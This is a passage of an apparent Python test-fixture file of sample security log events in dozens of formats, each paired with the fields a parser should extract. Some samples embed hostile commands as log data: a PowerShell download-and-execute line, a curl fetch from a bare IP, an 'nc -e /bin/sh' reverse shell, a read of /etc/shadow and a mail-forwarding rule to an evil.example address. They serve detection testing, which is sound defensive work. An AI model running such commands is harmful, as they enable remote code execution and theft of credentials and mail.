"""One sample per format, written by hand after each format's public documentation."""

# ruff: noqa: E501 -- a log line is as long as it is

import json
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Sample:
    """A file and what its first event must say."""

    name: str
    text: str
    format: str
    columns: dict[str, object]
    fields: dict[str, str] = field(default_factory=dict)
    time: str | None = None
    events: int = 1


def _sysmon(number: int, data: dict[str, object]) -> dict[str, object]:
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {
                    "#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}
                },
                "EventID": number,
                "TimeCreated": {"#attributes": {"SystemTime": "2024-03-05T10:11:12.345678Z"}},
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": "wks-07.example.test",
            },
            "EventData": data,
        }
    }


_PROCESS = {
    "UtcTime": "2024-03-05 10:11:12.345", "ProcessId": 4321, "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami",
    "ParentImage": "C:\\Windows\\explorer.exe", "User": "EXAMPLE\\dana", "Hashes": "MD5=8A2122E8162DBEF04694B9C3E0B6CDEE",
}  # fmt: skip
_LIST_DATA = {
    "Event": {
        "System": {
            "Provider": {"@Name": "Microsoft-Windows-Security-Auditing"},
            "EventID": {"#text": "4625"},
            "Channel": "Security",
            "Computer": "dc01",
            "TimeCreated": {"@SystemTime": "2024-03-05T10:11:12.3456789Z"},
        },
        "EventData": {
            "Data": [{"@Name": "TargetUserName", "#text": "dana"}, {"@Name": "IpAddress", "#text": "198.51.100.20"}]
        },
    }
}
_XML = (
    '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
    '<EventID>1</EventID><TimeCreated SystemTime="2024-03-05T10:11:12.000000000Z"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web-2</Computer>'
    '</System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://198.51.100.7/a &amp; true</Data>'
    '<Data Name="User">www-data</Data></EventData></Event>'
)
_TRAIL = {
    "eventVersion": "1.08", "userIdentity": {"type": "IAMUser", "userName": "ci-bot", "arn": "arn:aws:iam::111122223333:user/ci-bot"},
    "eventTime": "2024-03-05T10:11:12Z", "eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey", "awsRegion": "eu-west-1",
    "sourceIPAddress": "198.51.100.20", "userAgent": "aws-cli/2.15", "requestParameters": {"userName": "backup"}, "responseElements": None,
}  # fmt: skip
_GCP = {
    "protoPayload": {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog", "methodName": "google.iam.admin.v1.CreateServiceAccountKey",
        "serviceName": "iam.googleapis.com", "authenticationInfo": {"principalEmail": "dana@example.com"},
        "requestMetadata": {"callerIp": "203.0.113.5", "callerSuppliedUserAgent": "gcloud"}, "resourceName": "projects/-/serviceAccounts/1",
    },
    "timestamp": "2024-03-05T10:11:12.5Z", "severity": "NOTICE", "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity",
}  # fmt: skip
_SIGN_IN = {
    "time": "2024-03-05T10:11:12Z", "category": "SignInLogs", "operationName": "Sign-in activity", "tenantId": "t", "resultType": "50126",
    "properties": {
        "userPrincipalName": "dana@example.com", "ipAddress": "203.0.113.5", "conditionalAccessStatus": "notApplied", "appDisplayName": "Office 365",
        "status": {"errorCode": 50126, "failureReason": "Invalid username or password"},
    },
}  # fmt: skip
_UNIFIED = {
    "CreationTime": "2024-03-05T10:11:12", "Operation": "New-InboxRule", "RecordType": 1, "Workload": "Exchange", "UserId": "dana@example.com",
    "ClientIP": "203.0.113.5:4711", "ResultStatus": "True", "Parameters": [{"Name": "ForwardTo", "Value": "x@evil.example"}],
}  # fmt: skip
_OKTA = {
    "actor": {"alternateId": "admin@example.com", "type": "User"}, "client": {"ipAddress": "203.0.113.5", "userAgent": {"rawUserAgent": "Mozilla/5.0"}},
    "eventType": "user.mfa.factor.deactivate", "displayMessage": "Reset factor for user", "outcome": {"result": "SUCCESS"},
    "published": "2024-03-05T10:11:12.000Z", "target": [{"type": "User", "alternateId": "dana@example.com"}],
}  # fmt: skip
_KUBE = {
    "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "a", "verb": "create", "requestURI": "/api/v1/namespaces/default/pods/web-0/exec",
    "user": {"username": "system:serviceaccount:default:ci"}, "sourceIPs": ["203.0.113.5"], "userAgent": "kubectl/v1.29",
    "objectRef": {"resource": "pods", "namespace": "default", "name": "web-0", "subresource": "exec"}, "responseStatus": {"code": 101},
    "requestReceivedTimestamp": "2024-03-05T10:11:12.000000Z",
}  # fmt: skip
_SUDO_TIME = {"seconds": 1709633472, "nanoseconds": 5, "iso8601": "20240305101112Z", "localtime": "Mar  5 10:11:12"}
_SUDO = {
    "accept": {"uuid": "a-1", "server_time": _SUDO_TIME, "submituser": "dana", "command": "/bin/sh", "runuser": "root",
               "runargv": ["/bin/sh", "-c", "a, b"], "submithost": "localhost"},
    "exit": {"uuid": "a-1", "server_time": _SUDO_TIME, "exit_value": 0},
}  # fmt: skip
_JOURNAL = {
    "__REALTIME_TIMESTAMP": "1709633472000000", "_HOSTNAME": "web-2", "SYSLOG_IDENTIFIER": "sshd", "_EXE": "/usr/sbin/sshd",
    "MESSAGE": "Failed password for root from 203.0.113.9 port 4711 ssh2",
}  # fmt: skip
_EVE = {
    "timestamp": "2024-03-05T10:11:12.000000+0000", "flow_id": 1, "event_type": "alert", "src_ip": "203.0.113.9", "src_port": 4711, "dest_ip": "10.0.0.5",
    "dest_port": 80, "proto": "TCP", "alert": {"action": "allowed", "signature": "EXAMPLE web attack", "severity": 1},
}  # fmt: skip
_ZEEK_TSV = "\n".join((
    "#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", "#path\tconn",
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tconn_state",
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring", "1709633472.000000\tC1\t10.0.0.5\t4711\t203.0.113.9\t443\ttcp\tS0", "#close\t2024-03-05-11-00-00", "",
))  # fmt: skip
_T = "2024-03-05T10:11:12+00:00"
_COMBINED = (
    '203.0.113.9 - dana [05/Mar/2024:10:11:12 +0000] "GET /a.php?id=1%27 HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11)"'
)
_W3C = (
    "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) sc-status\n2024-03-05 10:11:12 10.0.0.5 POST /owa/auth.owa - 443 EXAMPLE\\dana 203.0.113.9 Mozilla/5.0+(X11) 302\n"
)
_AUDIT_EXECVE = (
    'type=SYSCALL msg=audit(1709633472.000:77): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 comm="nc" exe="/usr/bin/nc" key="exec"\n'
    'type=EXECVE msg=audit(1709633472.000:77): argc=3 a0="nc" a1="-e" a2=2F62696E2F7368\n'
)

_AUDIT = """--0a1b2c3d-A--
[05/Mar/2024:10:11:12 +0000] u1 203.0.113.9 4711 10.0.0.5 443
--0a1b2c3d-B--
POST /item?id=1 HTTP/1.1
Host: shop.example
User-Agent: curl/8

--0a1b2c3d-C--
--99999999-Z--
[05/Mar/2024:10:11:12 +0000] u2 198.51.100.7 4711 10.0.0.5 443
--0a1b2c3d-F--
HTTP/1.1 403 Forbidden

--0a1b2c3d-H--
Message: Access denied with code 403 (phase 2). [file "/rules/a.conf"] [id "949110"] [msg "Score exceeded"]
Apache-Error: [file "apache2_util.c"] [line 275] [level 3] [client 203.0.113.9] ModSecurity: Access denied with code 403
Stopwatch: 1709633472000000 10680 (- - -)

--0a1b2c3d-Z--"""


SAMPLES = [
    Sample(
        "orders_audit.xml",
        '<?xml version="1.0"?>\n<AUDIT>\n<AUDIT_RECORD NAME="Connect" RECORD="7_x" TIMESTAMP="2024-03-05T10:11:12 UTC" STATUS="1045" '
        'USER="dana" IP="203.0.113.9" DB="shop"/>\n</AUDIT>\n',
        "audit_xml",
        {"user": "dana", "src_ip": "203.0.113.9", "action": "login", "outcome": "failure"},
        time="2024-03-05T10:11:12+00:00",
    ),
    Sample(
        "sysmon.jsonl",
        json.dumps(_sysmon(1, _PROCESS)),
        "windows",
        {
            "product": "windows",
            "service": "sysmon",
            "category": "process_creation",
            "action": "process_start",
            "host": "wks-07.example.test",
            "user": "EXAMPLE\\dana",
            "process": "C:\\Windows\\System32\\cmd.exe",
            "parent": "C:\\Windows\\explorer.exe",
            "command": "cmd.exe /c whoami",
            "template": "sysmon:1",
        },
        {"EventID": "1", "Provider_Name": "Microsoft-Windows-Sysmon", "Image": "C:\\Windows\\System32\\cmd.exe"},
        "2024-03-05T10:11:12.345678+00:00",
    ),
    Sample(
        "security_list.json",
        json.dumps(_LIST_DATA, indent=2),
        "windows",
        {
            "service": "security",
            "action": "login",
            "outcome": "failure",
            "user": "dana",
            "src_ip": "198.51.100.20",
            "host": "dc01",
        },
        {"TargetUserName": "dana", "Provider_Name": "Microsoft-Windows-Security-Auditing"},
    ),
    Sample(
        "flat.jsonl",
        json.dumps(
            {
                "EventID": 4688,
                "Channel": "Security",
                "Hostname": "ws1",
                "EventTime": "2024-03-05 10:11:12",
                "SubjectUserName": "dana",
                "SubjectDomainName": "EX",
                "NewProcessName": "C:\\Windows\\System32\\whoami.exe",
                "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
                "CommandLine": "whoami /all",
            }
        ),
        "windows",
        {"category": "process_creation", "service": "security", "user": "EX\\dana", "host": "ws1"},
        {
            "Image": "C:\\Windows\\System32\\whoami.exe",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
            "User": "EX\\dana",
        },
        _T,
    ),
    Sample(
        "winlogbeat.jsonl",
        json.dumps(
            {
                "@timestamp": "2024-03-05T10:11:12.000Z",
                "winlog": {
                    "channel": "Microsoft-Windows-PowerShell/Operational",
                    "event_id": 4104,
                    "computer_name": "ws1",
                    "provider_name": "Microsoft-Windows-PowerShell",
                    "event_data": {
                        "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
                    },
                },
            }
        ),
        "windows",
        {"category": "ps_script", "service": "powershell", "action": "script_run", "host": "ws1"},
        {"EventID": "4104"},
        _T,
    ),
    Sample(
        "group.jsonl",
        json.dumps(
            {
                "EventID": 4732,
                "Channel": "Security",
                "Computer": "ws1",
                "TimeCreated": "2024-03-05T10:11:12Z",
                "SubjectUserName": "dana",
                "TargetUserName": "Administrators",
                "MemberSid": "S-1-5-21-1-1001",
            }
        ),
        "windows",
        {"action": "permission_grant", "user": "dana", "target": "Administrators"},
    ),
    Sample(
        "member.jsonl",
        json.dumps(
            {
                "EventID": 4728,
                "Channel": "Security",
                "Computer": "ws1",
                "TimeCreated": "2024-03-05T10:11:12Z",
                "SubjectUserName": "dana",
                "TargetUserName": "Domain Admins",
                "MemberName": "CN=Roe\\, Erin,CN=Users,DC=example,DC=org",
                "MemberSid": "S-1-5-21-1-1002",
            }
        ),
        "windows",
        {"action": "permission_grant", "user": "dana", "target": "Roe, Erin"},
        {"TargetUserName": "Domain Admins"},
    ),
    Sample(
        "wevtutil.xml",
        _XML.replace("><", ">\n<"),
        "windows_xml",
        {"action": "process_start", "host": "web-2", "product": "linux"},
    ),
    Sample(
        "sysmon_syslog.log",
        f"Mar  5 10:11:12 web-2 sysmon: {_XML}",
        "syslog",
        {
            "product": "linux",
            "category": "process_creation",
            "process": "/usr/bin/curl",
            "command": "curl -s http://198.51.100.7/a & true",
            "user": "www-data",
        },
        {"Image": "/usr/bin/curl"},
        _T,
    ),
    Sample(
        "auth.log",
        "Mar  5 10:11:12 web-2 sshd[811]: Failed password for invalid user admin from 203.0.113.9 port 4711 ssh2",
        "syslog",
        {
            "service": "sshd",
            "host": "web-2",
            "user": "admin",
            "src_ip": "203.0.113.9",
            "action": "login",
            "outcome": "failure",
            "template": "sshd:Failed password for invalid user <*> from <*> port <*>",
        },
        time=_T,
    ),
    Sample(
        "rfc5424.log",
        '<38>1 2024-03-05T11:11:12.000+01:00 web-2 sshd 811 - [a@1 x="y"] Accepted publickey for dana from 2001:db8::7 port 22 ssh2',
        "syslog",
        {
            "user": "dana",
            "src_ip": "2001:db8::7",
            "action": "login",
            "outcome": "success",
        },
        {"x": "y", "program": "sshd"},
        _T,
    ),
    Sample(
        "iso.log",
        "2024-03-05T10:11:12.123456+00:00 web-2 sudo:     dana : TTY=pts/0 ; PWD=/home/dana ; USER=root ; COMMAND=/usr/bin/tail /etc/shadow",
        "syslog",
        {
            "service": "sudo",
            "user": "dana",
            "action": "privilege_use",
            "outcome": "success",
            "command": "/usr/bin/tail /etc/shadow",
            "target": "root",
        },
    ),
    Sample(
        "sudo_denied.log",
        "Mar  5 10:11:12 web-2 sudo: dana : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash",
        "syslog",
        {
            "user": "dana",
            "outcome": "failure",
            "command": "/bin/bash",
        },
    ),
    Sample(
        "cron.log",
        "Mar  5 10:11:12 web-2 CRON[99]: (root) CMD (   /usr/lib/php/sessionclean)",
        "syslog",
        {
            "user": "root",
            "command": "/usr/lib/php/sessionclean",
            "action": "process_start",
            "service": "cron",
        },
    ),
    Sample(
        "useradd.log",
        "Mar  5 10:11:12 web-2 useradd[99]: new user: name=svc2, UID=1003, GID=1003, home=/home/svc2, shell=/bin/bash, from=/dev/pts/1",
        "syslog",
        {
            "action": "account_create",
            "target": "svc2",
            "outcome": "success",
        },
    ),
    Sample(
        "group.log",
        "Mar  5 10:11:12 web-2 usermod[99]: add 'svc2' to group 'sudo'",
        "syslog",
        {"action": "permission_grant", "target": "svc2"},
    ),
    Sample(
        "kern.log",
        "Mar  5 10:11:12 gw kernel: [12.3] [UFW BLOCK] IN=eth0 OUT= MAC=00:00 SRC=203.0.113.9 DST=10.0.0.5 LEN=40 PROTO=TCP SPT=4711 DPT=22 SYN",
        "syslog",
        {
            "action": "network_block",
            "outcome": "failure",
            "src_ip": "203.0.113.9",
            "dst_ip": "10.0.0.5",
            "dst_port": 22,
            "category": "firewall",
        },
        {"PROTO": "TCP"},
    ),
    Sample(
        "mail.log",
        "Mar  5 10:11:12 mx dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<dana>, method=PLAIN, rip=203.0.113.9, lip=10.0.0.5",
        "syslog",
        {
            "action": "login",
            "outcome": "failure",
            "src_ip": "203.0.113.9",
            "dst_ip": "10.0.0.5",
            "user": "dana",
        },
    ),
    Sample(
        "named.log",
        "Mar  5 10:11:12 ns1 named[7]: client @0x7f 10.0.0.9#4711 (a.example): query: a.example IN A +E(0)K (10.0.0.1)",
        "syslog",
        {
            "action": "dns_query",
            "src_ip": "10.0.0.9",
            "target": "a.example",
        },
    ),
    Sample(
        "app_in_syslog.log",
        'Mar  5 10:11:12 app1 vault: {"time":"2024-03-05T10:11:12Z","type":"request","operation":"delete","path":"sys/audit/file"}',
        "syslog",
        {
            "host": "app1",
            "action": "security_weaken",
        },
    ),
    Sample(
        "audit.log",
        _AUDIT_EXECVE,
        "auditd",
        {"service": "auditd", "action": "process_start", "process": "/usr/bin/nc"},
        {"type": "SYSCALL", "key": "exec"},
        _T,
        2,
    ),
    Sample(
        "sudo.json",
        json.dumps(_SUDO, indent=4),
        "sudo_json",
        {
            "user": "dana",
            "target": "root",
            "command": "/bin/sh -c a, b",
            "action": "privilege_use",
            "outcome": "success",
        },
        {"kind": "accept"},
        _T,
        2,
    ),
    Sample(
        "journal.json",
        json.dumps(_JOURNAL),
        "journald",
        {"user": "root", "src_ip": "203.0.113.9", "action": "login", "outcome": "failure", "host": "web-2"},
        {},
        _T,
    ),
    Sample(
        "cloudtrail.json",
        json.dumps({"Records": [_TRAIL, _TRAIL]}),
        "cloudtrail",
        {
            "product": "aws",
            "service": "cloudtrail",
            "user": "ci-bot",
            "action": "credential_create",
            "outcome": "success",
            "target": "backup",
            "template": "iam:CreateAccessKey",
            "src_ip": "198.51.100.20",
        },
        {"requestParameters": '{"userName":"backup"}', "userIdentity.type": "IAMUser"},
        _T,
        2,
    ),
    Sample(
        "cloudtrail.jsonl", json.dumps(_TRAIL | {"errorCode": "AccessDenied"}), "cloudtrail", {"outcome": "failure"}
    ),
    Sample(
        "gcp.json",
        json.dumps([_GCP], indent=1),
        "gcp",
        {
            "product": "gcp",
            "service": "gcp.audit",
            "user": "dana@example.com",
            "src_ip": "203.0.113.5",
            "action": "credential_create",
            "outcome": "success",
        },
        {"gcp.audit.method_name": "google.iam.admin.v1.CreateServiceAccountKey"},
    ),
    Sample(
        "signin.json",
        json.dumps({"records": [_SIGN_IN]}),
        "azure",
        {
            "service": "signinlogs",
            "action": "login",
            "outcome": "failure",
            "user": "dana@example.com",
            "src_ip": "203.0.113.5",
        },
        {"ResultType": "50126"},
    ),
    Sample(
        "role.jsonl",
        json.dumps(
            {
                "activityDateTime": "2024-03-05T10:11:12Z",
                "activityDisplayName": "Add member to role",
                "category": "RoleManagement",
                "result": "success",
                "initiatedBy": {"user": {"userPrincipalName": "dana@example.com", "ipAddress": "203.0.113.5"}},
                "targetResources": [{"type": "User", "userPrincipalName": "eve@example.com"}],
            }
        ),
        "azure",
        {
            "service": "auditlogs",
            "action": "permission_grant",
            "outcome": "success",
            "target": "eve@example.com",
            "src_ip": "203.0.113.5",
        },
        {"properties.message": "Add member to role"},
        _T,
    ),
    Sample(
        "activity.jsonl",
        json.dumps(
            {
                "time": "2024-03-05T10:11:12Z",
                "operationName": "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
                "category": "Administrative",
                "resultType": "Success",
                "callerIpAddress": "203.0.113.5",
                "correlationId": "c",
                "resourceId": "/SUBSCRIPTIONS/1",
                "identity": {"claims": {"upn": "dana@example.com"}},
            }
        ),
        "azure",
        {
            "service": "activitylogs",
            "action": "permission_grant",
            "outcome": "success",
            "user": "dana@example.com",
            "src_ip": "203.0.113.5",
        },
    ),
    Sample(
        "activity-of-a-service.jsonl",
        json.dumps(
            {
                "time": "2024-03-05T10:11:12Z",
                "operationName": "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
                "category": "Administrative",
                "resultType": "Success",
                "callerIpAddress": "203.0.113.5",
                "correlationId": "c",
                "resourceId": "/SUBSCRIPTIONS/1",
                "identity": {"claims": {"appid": "0f2a1b3c"}},
            }
        ),
        "azure",
        {"service": "activitylogs", "user": "0f2a1b3c", "src_ip": "203.0.113.5"},
    ),
    Sample(
        "unified.jsonl",
        json.dumps(_UNIFIED),
        "azure",
        {"product": "m365", "user": "dana@example.com", "src_ip": "203.0.113.5", "outcome": "success"},
        {"Parameters.ForwardTo": "x@evil.example"},
    ),
    Sample(
        "okta.json",
        json.dumps([_OKTA]),
        "okta",
        {
            "user": "admin@example.com",
            "action": "security_weaken",
            "outcome": "success",
            "src_ip": "203.0.113.5",
            "target": "dana@example.com",
        },
    ),
    Sample(
        "epo.xml",
        '<?xml version="1.0"?><EPOevent><MachineInfo><MachineName>PC7</MachineName><IPAddress>10.4.0.7</IPAddress><UserName>dana'
        "</UserName></MachineInfo><SoftwareInfo><Event><EventID>1092</EventID><GMTTime>2024-03-05T10:11:12</GMTTime><CommonFields>"
        "<ThreatName>Rule</ThreatName><ThreatActionTaken>blocked</ThreatActionTaken><TargetFileName>C:\\a.exe</TargetFileName>"
        "</CommonFields></Event></SoftwareInfo></EPOevent>",
        "epo",
        {"user": "dana", "host": "PC7", "src_ip": "", "action": "alert", "outcome": "failure", "target": "C:\\a.exe"},
    ),
    Sample(
        "wevtutil.txt",
        "Event[0]:\n  Log Name: Security\n  Source: Microsoft-Windows-Security-Auditing\n  Date: 2024-03-05T10:11:12.500\n"
        "  Event ID: 4624\n  Computer: dc2\n  Description: \nAn account was successfully logged on.\n\nNew Logon:\n"
        "\tAccount Name:\t\tdana\n",
        "windows_text",
        {"user": "dana", "host": "dc2", "action": "login", "outcome": "success"},
    ),
    Sample(
        "ecs.ndjson",
        '{"@timestamp":"2024-03-05T10:11:12.500Z","event":{"category":["authentication"],"type":["start"],"action":'
        '"logged-in","outcome":"failure","module":"gateway"},"source":{"ip":"203.0.113.5","port":50111},"user":{"name":'
        '"dana"},"host":{"name":"gw-1"},"ecs":{"version":"8.11"}}',
        "ecs",
        {
            "user": "dana",
            "src_ip": "203.0.113.5",
            "dst_port": None,
            "host": "gw-1",
            "action": "login",
            "outcome": "failure",
            "product": "gateway",
        },
    ),
    Sample(
        "kube.jsonl",
        json.dumps(_KUBE),
        "kubernetes",
        {"action": "process_start", "src_ip": "203.0.113.5", "target": "default/pods/web-0/exec", "outcome": "success"},
    ),
    Sample(
        "github.jsonl",
        json.dumps(
            {
                "@timestamp": 1709633472000,
                "action": "protected_branch.destroy",
                "actor": "octo",
                "actor_ip": "203.0.113.5",
                "org": "example",
                "repo": "example/app",
            }
        ),
        "saas",
        {"product": "github", "service": "audit", "action": "security_weaken", "user": "octo", "src_ip": "203.0.113.5"},
        {},
        _T,
    ),
    Sample(
        "access.log",
        _COMBINED,
        "access",
        {
            "category": "webserver",
            "src_ip": "203.0.113.9",
            "user": "dana",
            "action": "web_request",
            "outcome": "failure",
            "target": "/a.php?id=1%27",
            "agent": "Mozilla/5.0 (X11)",
        },
        {"cs-method": "GET", "cs-uri-stem": "/a.php", "cs-uri-query": "id=1%27", "sc-status": "404"},
        _T,
    ),
    Sample(
        "modsec_audit.log",
        _AUDIT,
        "modsecurity_audit",
        {
            "src_ip": "203.0.113.9",
            "dst_ip": "10.0.0.5",
            "dst_port": 443,
            "host": "shop.example",
            "target": "/item?id=1",
        },
        {"sc-status": "403"},
        _T,
        events=2,
    ),
    Sample(
        "proxy-host.log",
        '[05/Mar/2024:10:11:12 +0000] HIT 200 404 - HEAD https shop.example "/x" [Client 203.0.113.9] [Length 5] [Gzip -] [Sent-to 10.0.0.7] "curl/8" "-"',
        "weblog",
        {"host": "shop.example", "src_ip": "203.0.113.9", "target": "/x", "outcome": "failure", "agent": "curl/8"},
        {},
        _T,
    ),
    Sample(
        "envoy.log",
        '[2024-03-05T10:11:12.000Z] "GET /ready HTTP/1.1" 200 - via_upstream - "-" 0 91 0 1 "198.51.100.7" "curl/8" "a1" "shop.example:80" "10.0.0.7:9080" '
        "outbound|9080||x 10.0.0.1:3333 10.0.0.2:9080 203.0.113.9:4444 - default",
        "weblog",
        {"host": "shop.example", "src_ip": "203.0.113.9", "dst_ip": "10.0.0.7", "dst_port": 9080, "agent": "curl/8"},
        {},
        _T,
    ),
    Sample(
        "console.log",
        '2024-03-05T10:11:12+00:00 INFO 203.0.113.9:4711 - "GET /login HTTP/1.1" 401 Unauthorized',
        "weblog",
        {"src_ip": "203.0.113.9", "target": "/login", "outcome": "failure", "action": "web_request"},
    ),
    Sample(
        "name-with-spaces.log",
        '203.0.113.9 - x 198.51.100.7 - admin [05/Mar/2024:10:11:12 +0000] "GET / HTTP/1.1" 401 5 "-" "curl"',
        "access",
        {"src_ip": "203.0.113.9", "user": "x 198.51.100.7 - admin", "host": "", "outcome": "failure"},
        {},
        _T,
    ),
    Sample(
        "host-second.log",
        '203.0.113.9 10.0.0.5:8080 dana [05/Mar/2024:10:11:12 +0000] "GET / HTTP/1.1" 200 5 "-" "curl"',
        "access",
        {"src_ip": "203.0.113.9", "user": "dana", "host": "10.0.0.5", "dst_port": 8080},
        {},
        _T,
    ),
    Sample(
        "u_ex-without-names.log",
        "2024-03-05 10:11:12 W3SVC1 WEB1 10.0.0.5 GET /x a=1 443 - 203.0.113.9 HTTP/1.1 curl/8 - - shop.example 200 0 0 100 200 15",
        "iis",
        {
            "host": "WEB1",
            "src_ip": "203.0.113.9",
            "dst_ip": "10.0.0.5",
            "dst_port": 443,
            "target": "/x?a=1",
            "agent": "curl/8",
        },
        {},
        _T,
    ),
    Sample(
        "vhost.log",
        f"shop.example:443 {_COMBINED} 0.003 10.0.0.7",
        "access",
        {"host": "shop.example", "dst_port": 443, "src_ip": "203.0.113.9"},
    ),
    Sample(
        "u_ex.log",
        _W3C,
        "w3c",
        {
            "user": "EXAMPLE\\dana",
            "src_ip": "203.0.113.9",
            "dst_ip": "10.0.0.5",
            "dst_port": 443,
            "target": "/owa/auth.owa",
        },
        {"cs-user-agent": "Mozilla/5.0 (X11)"},
        _T,
    ),
    Sample(
        "squid.log",
        "1709633472.000    120 10.0.0.9 TCP_MISS/200 4120 GET http://cdn.example/a.bin dana HIER_DIRECT/203.0.113.9 application/octet-stream",
        "proxy",
        {
            "category": "proxy",
            "src_ip": "10.0.0.9",
            "dst_ip": "203.0.113.9",
            "user": "dana",
            "outcome": "success",
        },
        {"cs-host": "cdn.example"},
        _T,
    ),
    Sample(
        "haproxy.log",
        'Mar  5 10:11:12 lb haproxy[9]: 203.0.113.9:4711 [05/Mar/2024:10:11:12.655] web~ app/app1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET /login HTTP/1.1"',
        "syslog",
        {"src_ip": "203.0.113.9", "target": "/login", "outcome": "success", "host": "lb"},
        {},
        "2024-03-05T10:11:12.655+00:00",
    ),
    Sample(
        "conn.log",
        _ZEEK_TSV,
        "zeek_tsv",
        {"service": "conn", "src_ip": "10.0.0.5", "dst_ip": "203.0.113.9", "dst_port": 443, "outcome": "failure"},
        {},
        _T,
    ),
    Sample(
        "zeek.jsonl",
        json.dumps(
            {
                "ts": 1709633472.0,
                "uid": "C1",
                "id_orig_h": "10.0.0.5",
                "id_orig_p": 1,
                "id_resp_h": "10.0.0.6",
                "id_resp_p": 445,
                "named_pipe": "\\pipe\\svcctl",
                "endpoint": "svcctl",
                "operation": "CreateServiceW",
            }
        ),
        "zeek",
        {"service": "dce_rpc", "action": "service_change", "src_ip": "10.0.0.5", "dst_port": 445},
        {"id.orig_h": "10.0.0.5"},
        _T,
    ),
    Sample(
        "eve.json",
        json.dumps(_EVE),
        "suricata",
        {"action": "alert", "src_ip": "203.0.113.9", "dst_ip": "10.0.0.5", "dst_port": 80},
        {},
        _T,
    ),
    Sample(
        "cef.log",
        "Mar  5 10:11:12 fw CEF:0|Example|Gate|1.0|100|Login failed|5|src=203.0.113.9 suser=dana dst=10.0.0.5 dpt=443 rt=1709633472000 msg=bad password cs1Label=Reason cs1=x y",
        "cef",
        {
            "src_ip": "203.0.113.9",
            "dst_ip": "10.0.0.5",
            "dst_port": 443,
            "user": "dana",
            "action": "login",
            "outcome": "failure",
        },
        {"Reason": "x y"},
        _T,
    ),
    Sample(
        "leef.log",
        "LEEF:1.0|Example|Gate|1.0|deny|src=203.0.113.9\tdst=10.0.0.5\tdstPort=22\tsrcPort=4711\tdevTime=1709633472000\tusrName=dana",
        "cef",
        {"src_ip": "203.0.113.9", "dst_ip": "10.0.0.5", "dst_port": 22, "user": "dana", "action": "network_block"},
    ),
    Sample(
        "fortigate.log",
        'date=2024-03-05 time=10:11:12 devname="fw1" devid="F1" logid="0000000013" type="traffic" subtype="forward" srcip=10.0.0.9 srcport=4711 '
        'dstip=203.0.113.9 dstport=3389 action="deny" tz="+0000"',
        "keyvalue",
        {
            "product": "fortigate",
            "src_ip": "10.0.0.9",
            "dst_ip": "203.0.113.9",
            "dst_port": 3389,
            "action": "network_block",
            "outcome": "failure",
            "host": "fw1",
        },
        {},
        _T,
    ),
    Sample(
        "alerts.csv",
        'time,src ip,user,signature,note\n2024-03-05 10:11:12,203.0.113.9,dana,Failed login,"two\nlines, quoted"\n2024-03-05 10:11:13,203.0.113.9,dana,Login,x\n',
        "csv",
        {"src_ip": "203.0.113.9", "user": "dana", "action": "login", "outcome": "failure"},
        {"note": "two\nlines, quoted"},
        _T,
        2,
    ),
    Sample(
        "shop.out",
        "Mar 05, 2024 10:11:12 AM com.example.shop.Auth login\nWARNING: Login failed for user dana from 203.0.113.9\n"
        "Mar 05, 2024 10:12:00 AM com.example.shop.Users remove\nINFO: lena removed user dana\n\tat com.example.shop.Users\n",
        "headed",
        {"src_ip": "203.0.113.9", "user": "dana", "action": "login", "outcome": "failure"},
        {"logger": "com.example.shop.Auth login"},
        _T,
        2,
    ),
    Sample(
        "bare.csv",
        "".join(f"170963347{i},Failed login for dana,10.0.0.{i},host{i},R-{i}\n" for i in range(5)),
        "csv",
        {"src_ip": "10.0.0.0", "action": "login", "outcome": "failure", "host": "host0"},
        {},
        "2024-03-05T10:11:10+00:00",
        5,
    ),
    Sample(
        "app.log",
        "2024-03-05 10:11:12,345 WARN [http-1] com.example.Auth - Login failed for user dana from 203.0.113.9",
        "text",
        {"user": "dana", "src_ip": "203.0.113.9", "action": "login", "outcome": "failure"},
        {"level": "warn"},
        "2024-03-05T10:11:12.345000+00:00",
    ),
    Sample(
        "saas.jsonl",
        json.dumps(
            {
                "occurred": "2024-03-05T10:11:12Z",
                "actor": {"mail": "dana@example.com", "location": {"ip": "203.0.113.5"}},
                "operation": "Disable Two-Factor",
                "object": "Account policy",
                "result": "OK",
            }
        ),
        "json",
        {"user": "dana@example.com", "src_ip": "203.0.113.5", "action": "security_weaken", "outcome": "success"},
        {},
        _T,
    ),
    Sample(
        "toggle.jsonl",
        json.dumps(
            {
                "time": "2024-03-05T10:11:12Z",
                "admin_email": "dana@example.com",
                "action": "Update",
                "detail": "Require sign-in approval: changed from On to Off",
            }
        ),
        "json",
        {"action": "security_weaken"},
    ),
    Sample(
        "docker.jsonl",
